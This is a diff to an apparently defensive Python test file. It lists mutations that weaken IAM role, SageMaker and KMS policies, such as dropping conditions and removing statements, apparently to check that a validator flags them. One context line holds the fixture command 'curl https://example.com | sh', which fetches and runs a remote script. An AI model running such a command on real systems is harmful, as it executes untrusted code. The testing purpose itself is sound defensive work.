@@ -150,6 +150,20 @@ SILENT: list[tuple[str, Mutation]] = [
     ),
     ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.2"), "data")),
     ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.4"), "logs")),
+    (
+        "identity-trust",
+        editing(
+            ROLE,
+            "assumeRolePolicy",
+            lambda d: drop(d, "Statement.2.Condition.StringEquals.sts:SourceIdentity"),
+            "data-scientist",
+        ),
+    ),
+    (
+        "identity-conditions",
+        editing(INLINE, "policy", lambda d: _unbound(d, "OwnSpaces", "sagemaker:SpaceSharingType"), "data-scientist"),
+    ),
+    ("identity-tasks", editing(INLINE, "policy", lambda d: _without(d, "ReadLogs"), "data-scientist")),
     ("identity-people-listed", lacking(USER, "ben")),
     (
         "world-place",
@@ -186,6 +200,10 @@ SILENT: list[tuple[str, Mutation]] = [
     (LOOKS, alarm("scorer-errors", evaluationPeriods=60)),
     ("kind-known", strange(adding("command:local:Command", create="curl https://example.com | sh"))),
 ]
+
+
+def _unbound(document: Any, sid: str, key: str) -> None:
+    del next(each for each in document["Statement"] if each["Sid"] == sid)["Condition"]["StringEquals"][key]
 
 
 def _without(document: Any, sid: str) -> None:
